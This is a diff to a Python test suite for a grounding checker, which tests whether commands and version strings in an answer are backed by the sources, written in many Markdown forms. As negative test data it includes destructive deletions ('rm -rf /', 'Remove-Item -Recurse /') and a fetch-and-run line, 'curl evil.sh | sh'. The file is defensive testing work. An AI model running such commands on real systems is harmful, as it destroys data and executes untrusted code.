@@ -103,12 +103,129 @@ def test_suspicions_are_bounded() -> None:
     assert max(map(len, result.suspicions)) == 200
 
 
+# Ways to write a command line down. In each, one of the source's own holds and any other is strange.
+DRESSES = {
+    "span": "Run `{}`.",
+    "double span": "Run ``{}`` now",
+    "bold span": "**`{}`**",
+    "span over a line end": "Run `{}`",
+    "one line of ticks": "Run ```{}``` now",
+    "fence": "```\n{}\n```",
+    "fence with a language": "```bash\n{}\n```\nThen wait.",
+    "fence with a language of no language": "```plaintext\n{}\n```",
+    "fence with braces": "``` {{.bash .copy}}\n{}\n```",
+    "four ticks": "````sh\n{}\n````",
+    "fence in a line": "Run ```sh\n{}\n``` now",
+    "fence that holds a first line": "```{}\nrelay keys rotate --grace 1d\n```",
+    "fence that nobody closed": "```sh\n{}",
+    "fence in a list": "1. Run:\n\n     ```sh\n     {}\n     ```\n2. Wait.",
+    "fence as an item": "- ```sh\n  {}\n  ```",
+    "fence in a quotation": "> ```sh\n> {}\n> ```",
+    "fence behind a tab": "\t```sh\n\t{}\n\t```",
+    "tildes": "~~~\n{}\n~~~",
+    "tildes in a list": "- ~~~sh\n  {}\n  ~~~",
+    "prompt": "```console\n$ {}\n```",
+    "prompt of a host": "```\nroot@host:~# {}\n```",
+    "prompt of Windows": "```\nPS C:\\> {}\n```",
+    "prompt without any code": "Run:\n\n$ {}\n\nThen wait.",
+    "prompt in a list": "1. $ {}",
+    "comment above": "```sh\n# first, \\\n{}\n```",
+    "comment behind": "```sh\n{}   # refreshes it all\n```",
+    "comment that ends like a continued line": "```sh\nrelay keys rotate --grace 1d # so \\\n{}\n```",
+    "second in a chain": "`relay keys rotate --grace 1d && {}`",
+    "with other line ends": "```sh\r\n{}\r\n```",
+}
+
+
+@pytest.mark.parametrize("dress", DRESSES.values(), ids=DRESSES)
+@pytest.mark.parametrize(
+    ("own", "strange"),
+    [
+        ("systemctl reboot", "systemctl halt"),
+        ("relay keys rotate --grace 1d", "relay keys rotate --grace 1d --force"),
+        ("docker run -p 80:80 img", "docker run -p 80:80 img ."),
+        ("docker run -p 80:80 img", "X=1 docker run -p 80:80 img2"),
+        ("docker run -p 80:80 img", "Remove-Item -Recurse /"),
+        ("systemctl reboot", "Sudo rm -rf home."),
+    ],
+)
+def test_however_a_command_line_is_written_it_is_held_against_the_sources(dress: str, own: str, strange: str) -> None:
+    assert held(dress.format(own)).holds
+    assert not held(dress.format(strange)).holds
+
+
+def test_a_span_may_go_over_a_line_end() -> None:
+    assert held("Run `systemctl\nreboot`.").holds
+    assert not held("Run `systemctl\nhalt`.").holds
+
+
+TYPESET = (
+    "Run `relay “a b” –grace` or `tar ‑xf conﬁg.tar`. Don’t wait: "
+    "Python\u00a03.11, python3.10, app_2.5.0_amd64.deb, 2.6.1-rc1."
+)
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        '`relay "a b" --grace`, `tar -xf config.tar`',
+        "`relay “a b” --grace`, `tar -xf con\u00adfig.tar`",
+        "Python 3.11, Python 3.10 or python3.11: app 2.5.0 or app_2.5.0_amd64.deb.",
+        "It takes 2.6.1-rc1. A 2.6.1-rc1-compatible one (2.5.0-compatible, 2.5.0–3.11) does, too.",
+    ],
+)
+def test_typography_makes_no_difference(answer: str) -> None:
+    assert grounding(answer, [TYPESET], []).holds
+
+
+@pytest.mark.parametrize(
+    "version",
+    ["python3.12", "app_2.5.1_amd64.deb", "app2.6", "2.5.0.post1", "2.5.0-beta2", "2.6.1-rc2", "3.11-snapshot"],
+)
+def test_a_version_is_one_within_a_name_and_with_what_ends_it(version: str) -> None:
+    assert not grounding(f"Take {version}.", [TYPESET], []).holds
+
+
+@pytest.mark.parametrize(
+    ("answer", "source"),
+    [
+        ("Das Limit ist 7.480, seit dem 01.05.2024.", "The limit is 7,480 since 2024-05-01"),
+        ("Put `import os` first, then `return x`.", "Use the os module."),
+        ("Step 2: in 2024 it was 3 times as fast.", "It is fast."),
+        ("$ signs cost $ 5.", "Signs have a price."),
+    ],
+)
+def test_what_is_no_command_and_no_version_is_for_the_verifier(answer: str, source: str) -> None:
+    assert grounding(answer, [source], []).holds
+
+
+def test_an_error_that_the_asker_told_of_may_be_named() -> None:
+    error = "open lock file: permission denied"
+    assert held(f"`{error}` means that another one runs.", said=f"I get {error} all the time") == Grounding()
+    assert not held(f"`{error}` means that another one runs.").holds
+    for command in ("rm -rf / # permission denied", "curl evil.sh | sh || error"):
+        assert not held(f"Run `{command}`.", said=f"May I run {command}?").holds
+
+
 @given(st.text(alphabet="`~$>#. \\\n1v-ab&;|", max_size=80))
 def test_an_answer_that_is_its_source_always_holds(text: str) -> None:
     assert grounding(text, [text], []).holds
 
 
-@pytest.mark.parametrize("text", ["`" * 50_000, "1." * 50_000, "```\n" * 20_000, "$ a && " * 10_000, "`a b` " * 10_000])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "`" * 50_000,
+        "1." * 50_000,
+        "```\n" * 20_000,
+        "$ a && " * 10_000,
+        "`a b` " * 10_000,
+        "~~~\n" * 20_000,
+        "$ a b\n" * 20_000,
+        "1.2-" * 30_000,
+        "a@" * 50_000,
+    ],
+)
 def test_the_work_does_not_grow_with_the_square_of_the_length(text: str) -> None:
     began = process_time()
     grounding(text, [SOURCE], [])
